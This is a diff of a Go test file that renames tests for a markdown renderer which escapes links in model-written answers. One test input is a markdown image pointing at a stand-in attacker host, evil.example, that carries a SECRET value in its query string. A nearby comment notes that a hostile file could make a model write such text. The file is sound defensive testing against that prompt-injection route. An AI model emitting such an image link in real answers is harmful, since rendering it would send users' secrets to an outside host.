@@ -15,7 +15,7 @@ import (
 
 // Answers contain what a hostile file could make a model write. Nothing of it is fetched, linked
 // or run where it is shown.
-func TestMarkdown_onlyCitationsAreLinks(t *testing.T) {
+func TestAnswerMarkdown_onlyCitationsAreLinks(t *testing.T) {
 	t.Parallel()
 	for given, want := range map[string]string{
 		"![x](https://evil.example/?d=SECRET)": `!\[x\](https\://evil.example/?d=SECRET)`,
@@ -58,7 +58,7 @@ var hostile = []string{
 }
 
 // Hostile text is rendered before and after citations.
-func TestMarkdown_noHostileLinkIsRendered(t *testing.T) {
+func TestAnswerMarkdown_rendersNoHostileLink(t *testing.T) {
 	t.Parallel()
 	for _, one := range hostile {
 		onlyCited(t, one, "", "a.go")
@@ -68,8 +68,8 @@ func TestMarkdown_noHostileLinkIsRendered(t *testing.T) {
 	}
 }
 
-// FuzzNoLinkIsRendered renders any text before and after a citation.
-func FuzzNoLinkIsRendered(f *testing.F) {
+// FuzzAnswerMarkdown_rendersNoLink renders any text before and after a citation.
+func FuzzAnswerMarkdown_rendersNoLink(f *testing.F) {
 	for _, one := range hostile {
 		f.Add(one, one, "a.go")
 	}
